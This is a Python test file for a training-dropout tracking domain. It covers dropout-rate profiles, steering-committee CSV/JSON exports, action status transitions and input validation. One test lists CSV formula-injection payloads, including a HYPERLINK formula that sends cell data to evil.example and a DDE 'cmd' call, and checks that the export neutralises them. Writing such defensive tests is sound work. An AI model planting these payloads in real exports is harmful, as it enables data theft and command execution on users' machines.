from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from decimal import Decimal
from typing import Any

import pytest

from pacte_contracts.codes import DROPOUT_REASON_LABELS_FR, DropoutReason, RejectionReason
from pacte_contracts.refusals import parse
from pacte_improvement.domain import (
    ActionItem,
    ActionStatus,
    ChangeDropoutActionStatus,
    RecordDropoutAction,
    Rejection,
    change_action_status,
    decide_action_status,
    decide_record_action,
    dropout_profile,
    export_csv,
    export_json,
    last_day,
    period_of,
)
from pacte_improvement.domain.steering_export import EXPORT_COLUMNS

from ._fixtures import small_plan


def test_dropout_profile_against_programme() -> None:
    profile = dropout_profile(
        2019,
        {DropoutReason.PROJECT_ABANDONED: 1, "material_reason": 2},
        10,
        {"project_abandoned": 3, "material_reason": 2, "return_to_work": 3},
        40,
    )
    assert profile.dropouts == 3
    assert profile.rate == Decimal("0.3000")
    assert profile.programme_dropouts == 8
    assert profile.programme_rate == Decimal("0.2000")
    assert profile.rate_gap == Decimal("0.1000")
    assert [r.reason for r in profile.reasons] == list(DropoutReason)
    by_reason = {r.reason: r for r in profile.reasons}
    material = by_reason[DropoutReason.MATERIAL_REASON]
    assert material.label_fr == "Raison matérielle (mobilité, déménagement, finances)"
    assert (material.count, material.share) == (2, Decimal("0.6667"))
    assert (material.programme_count, material.programme_share) == (2, Decimal("0.2500"))
    assert by_reason[DropoutReason.OTHER].share == Decimal("0.0000")
    doc = profile.to_json_dict()
    assert doc["dropout_rate"] == "0.3000"
    assert doc["programme"]["dropout_rate"] == "0.2000"
    assert doc["reasons"][0]["label"] == DROPOUT_REASON_LABELS_FR[DropoutReason.PROJECT_ABANDONED]


def test_dropout_profile_without_entries_has_undefined_rates() -> None:
    profile = dropout_profile(2020, {}, 0, {}, 0)
    assert profile.rate is None
    assert profile.programme_rate is None
    assert profile.rate_gap is None
    assert all(r.share is None for r in profile.reasons)
    assert profile.to_json_dict()["dropout_rate"] is None


def test_unknown_reason_code_is_refused() -> None:
    with pytest.raises(ValueError, match="bogus"):
        dropout_profile(2019, {"bogus": 1}, 1, {}, 1)


def _items() -> list[ActionItem]:
    return [
        ActionItem(
            DropoutReason.MATERIAL_REASON,
            "Aide au transport, covoiturage",
            "référente mobilité",
            date(2020, 3, 31),
            ActionStatus.IN_PROGRESS,
            plan_id="PAS-1",
            year=2019,
        ),
        ActionItem(
            DropoutReason.PROJECT_ABANDONED,
            'Entretien "projet" à J+5',
            "coordinatrice",
            date(2020, 1, 31),
            plan_id="PAS-1",
            year=2019,
        ),
    ]


def test_export_csv_for_steering_committee() -> None:
    text = export_csv(_items())
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0] == (
        '"plan_id","year","action_id","reason_addressed","reason_label","description","owner_role","due_on","status"'
    )
    assert [r["reason_addressed"] for r in rows] == ["project_abandoned", "material_reason"]
    assert rows[0]["description"] == 'Entretien "projet" à J+5'
    assert rows[0]["reason_label"] == "Abandon du projet de formation"
    assert rows[1]["status"] == "in_progress"
    assert rows[1]["due_on"] == "2020-03-31"
    assert rows[1]["year"] == "2019"
    assert export_csv([]).count("\n") == 1


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0",
                                     "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\r=1+1", "x;=1+1"])
def test_the_export_never_hands_a_formula_to_a_spreadsheet(payload: str) -> None:
    """Issue 18: an organisation's action text starting with = + - @ came back as a live formula."""
    item = replace(_items()[0], description=payload, owner_role=payload)
    [row] = list(csv.reader(io.StringIO(export_csv([item]), newline="")))[1:]
    description, owner_role = row[EXPORT_COLUMNS.index("description")], row[EXPORT_COLUMNS.index("owner_role")]
    assert description == owner_role
    assert description == (payload if payload.startswith("x") else "'" + payload)
    assert json.loads(export_json([item]))[0]["description"] == payload  # JSON is data: kept as written


def test_export_json_for_steering_committee() -> None:
    doc = json.loads(export_json(_items()))
    assert doc[0]["reason_addressed"] == "project_abandoned"
    assert doc[0]["status"] == "planned"
    assert doc[1]["reason_label"].startswith("Raison matérielle")
    assert "matérielle" in export_json(_items())
    assert json.loads(export_json([])) == []


def test_action_status_transitions() -> None:
    item = _items()[1]
    started = change_action_status(item, ActionStatus.IN_PROGRESS)
    assert isinstance(started, ActionItem)
    assert started.status is ActionStatus.IN_PROGRESS
    done = change_action_status(started, ActionStatus.DONE)
    assert isinstance(done, ActionItem)
    assert change_action_status(done, ActionStatus.DONE) == done
    back = change_action_status(done, ActionStatus.PLANNED)
    assert isinstance(back, Rejection)
    assert back.reason is RejectionReason.INVALID
    dropped = change_action_status(item, ActionStatus.DROPPED)
    assert isinstance(dropped, ActionItem)
    assert isinstance(change_action_status(dropped, ActionStatus.IN_PROGRESS), Rejection)


_ACTION: dict[str, Any] = {"plan_id": "PAS-1", "reason_addressed": "unjustified_absence",
                           "description": "Appel le jour même", "owner_role": "formateur référent",
                           "due_on": "2020-02-28", "year": 2019}


def _record(payload: dict[str, Any], organisation_id: str = "OF-LYON-NUM",
            action_exists: bool = False) -> ActionItem | Rejection:
    command = parse(RecordDropoutAction, payload)
    assert isinstance(command, RecordDropoutAction), command
    return decide_record_action(small_plan(), command, organisation_id=organisation_id, action_id="DA-1",
                                action_exists=action_exists)


def test_record_an_action() -> None:
    item = _record(_ACTION)
    assert isinstance(item, ActionItem)
    assert (item.status, item.year, item.action_id, item.plan_id) == (ActionStatus.PLANNED, 2019, "DA-1", "PAS-1")
    assert item.reason_addressed is DropoutReason.UNJUSTIFIED_ABSENCE


@pytest.mark.parametrize("change", [
    {"due_on": "2020-2-28"},
    {"year": "2019"},
    {"year": 2019.0},
    {"description": ""},
    {"owner_role": None},
    {"reason_addressed": 3},
    {"status": True},
    {"action_id": ""},
    # Input limits (issue 18): years outside the calendar, text and ids of any size, formulas stay text.
    {"year": 0}, {"year": 10000}, {"year": 99999999999999999999},
    {"description": "x" * 5_000_000}, {"action_id": "DA/1"}, {"action_id": "D" * 65},
])
def test_a_malformed_action_is_invalid_at_stage_1(change: dict[str, Any]) -> None:
    result = parse(RecordDropoutAction, {**_ACTION, **change})
    assert isinstance(result, Rejection) and result.reason is RejectionReason.INVALID
    missing = dict(_ACTION)
    del missing["owner_role"]
    assert isinstance(parse(RecordDropoutAction, missing), Rejection)


@pytest.mark.parametrize(("change", "exists"), [
    ({"reason_addressed": "nope"}, False),
    ({"status": "late"}, False),
    ({}, True),
])
def test_bad_values_are_invalid_after_ownership(change: dict[str, Any], exists: bool) -> None:
    result = _record({**_ACTION, **change}, action_exists=exists)
    assert isinstance(result, Rejection) and result.reason is RejectionReason.INVALID
    foreign = _record({**_ACTION, **change}, organisation_id="OF-AUV-ESS", action_exists=exists)
    assert isinstance(foreign, Rejection) and foreign.reason is RejectionReason.FORBIDDEN


def test_follow_an_action() -> None:
    item = _items()[1]
    command = ChangeDropoutActionStatus(plan_id="PAS-1", action_id="DA-1", status="in_progress")
    started = decide_action_status(small_plan(), item, command, organisation_id="OF-LYON-NUM")
    assert isinstance(started, ActionItem) and started.status is ActionStatus.IN_PROGRESS
    for plan, found, status, organisation, reason in [
        (small_plan(), item, "late", "OF-AUV-ESS", RejectionReason.FORBIDDEN),
        (small_plan(), None, "done", "OF-LYON-NUM", RejectionReason.INVALID),
        (small_plan(), item, "late", "OF-LYON-NUM", RejectionReason.INVALID),
        (None, item, "done", "OF-LYON-NUM", RejectionReason.INVALID),
    ]:
        refused = decide_action_status(plan, found, command.model_copy(update={"status": status}),
                                       organisation_id=organisation)
        assert isinstance(refused, Rejection) and refused.reason is reason


def test_periods() -> None:
    assert last_day("2020-02") == date(2020, 2, 29)
    assert last_day("2019-12") == date(2019, 12, 31)
    assert period_of(date(2019, 9, 30)) == "2019-09"
    with pytest.raises(ValueError, match="period"):
        last_day("2019-13")
